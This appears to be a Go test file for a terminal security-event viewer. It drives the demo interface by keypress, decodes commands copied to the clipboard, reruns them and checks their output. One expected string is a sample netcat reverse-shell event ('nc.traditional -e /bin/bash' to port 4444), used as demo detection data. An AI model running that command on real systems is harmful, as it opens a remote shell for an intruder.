package main

import (
	"encoding/base64"
	"errors"
	"os"
	"os/exec"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	screen "github.com/stoop-project/stoop/test/terminal"
)

// clipped are the sequences by which a program gives a terminal a text for its
// clipboard (OSC 52).
var clipped = regexp.MustCompile("\x1b\\]52;c;([A-Za-z0-9+/=]*)")

// Y gives a command that prints what is on the screen: each view of the demo's is
// copied, run, and says the same.
func TestCopiedCommands(t *testing.T) {
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(self)
	cmd.Env = append(os.Environ(), childEnv+"=demo", "TERM=xterm-256color", "TZ=UTC", "XDG_CONFIG_HOME="+t.TempDir(), "XDG_STATE_HOME="+t.TempDir())
	term, err := screen.Start(cmd, 140, 40)
	if err != nil {
		t.Fatal(err)
	}
	defer term.Close()
	for _, view := range []struct {
		keys  string
		is    string // on the screen
		words string // in the command
		says  []string
		lines int // of its output, where they are events; 0: not counted
	}{
		{"", "31,981 events", "print demo -r stoop", nil, 31_981},
		{"e<enter>", "43 sentences", "--story", []string{"Command shell through netcat in a container (Critical)", "sh ran nc.traditional -e /bin/bash 127.0.0.66 4444"}, 0},
		{"<esc>i", "opens the timeline", "--around", []string{"nc.traditional"}, 0},
		{"<esc>V", "against before", "--compare 6ff4da17d163 --past 2026-11-23T23:37:0", []string{"nmap"}, 0},
		{"<esc>Q", "acknowledge", "queue demo -r stoop", []string{"Command shell through netcat in a container"}, 0},
		{"<esc>b", "MITRE ATT&CK tactics", "--dashboard event-summary", []string{"Command shell through netcat in a container"}, 0},
		{"<esc>fevt.type = unlinkat<enter>", "of 31,981", "-f 'evt.type = unlinkat'", []string{"/var/log/shop/access.log"}, -1},
	} {
		keys, back := strings.CutPrefix(view.keys, "<esc>")
		if back { // by itself: with another key behind it, it is alt
			if err := errors.Join(term.Type("<esc>"), term.Settle(200*time.Millisecond, time.Minute)); err != nil {
				t.Fatal(err)
			}
		}
		if err := term.Type(keys); err != nil {
			t.Fatal(err)
		}
		var shown string
		if err := term.WaitFor(view.is, time.Minute, func(text string) bool { shown = text; return strings.Contains(text, view.is) }); err != nil {
			t.Fatal(err)
		}
		before := len(clipped.FindAllString(term.Output(), -1))
		if err := term.Type("Y"); err != nil {
			t.Fatal(err)
		}
		var line string
		if err := term.WaitFor("a text for the clipboard", time.Minute, func(string) bool {
			all := clipped.FindAllStringSubmatch(term.Output(), -1)
			if len(all) <= before {
				return false
			}
			text, err := base64.StdEncoding.DecodeString(all[len(all)-1][1])
			line = string(text)
			return err == nil
		}); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(line, view.words) {
			t.Errorf("%s: copied %q", view.is, line)
			continue
		}
		if view.lines != 0 {
			line += " -o json"
		}
		out := ran(t, line)
		for _, want := range view.says {
			if !strings.Contains(out, want) {
				t.Errorf("%s does not say %q", line, want)
			}
		}
		lines := view.lines
		if lines < 0 { // as many as the screen has of them
			n := regexp.MustCompile(`([0-9,]+) of 31,981`).FindStringSubmatch(shown)
			if n == nil {
				t.Fatal(shown)
			}
			lines, _ = strconv.Atoi(strings.ReplaceAll(n[1], ",", ""))
		}
		if got := strings.Count(out, "\n"); lines != 0 && got != lines {
			t.Errorf("%s prints %d events, the screen has %d", line, got, lines)
		}
	}
}

// ran runs a command line as a shell takes it apart.
func ran(t *testing.T, line string) string {
	t.Helper()
	rest, ok := strings.CutPrefix(line, "stoop ")
	if !ok {
		t.Fatalf("%q is no command of stoop", line)
	}
	split, err := exec.Command("sh", "-c", `printf '%s\0' `+rest).Output()
	if err != nil {
		t.Fatal(err)
	}
	code, out, errs := stoop(t, slices.Collect(strings.SplitSeq(strings.TrimSuffix(string(split), "\x00"), "\x00"))...)
	if code != exitOK {
		t.Fatalf("%s: exit %d: %s", line, code, errs)
	}
	return out
}
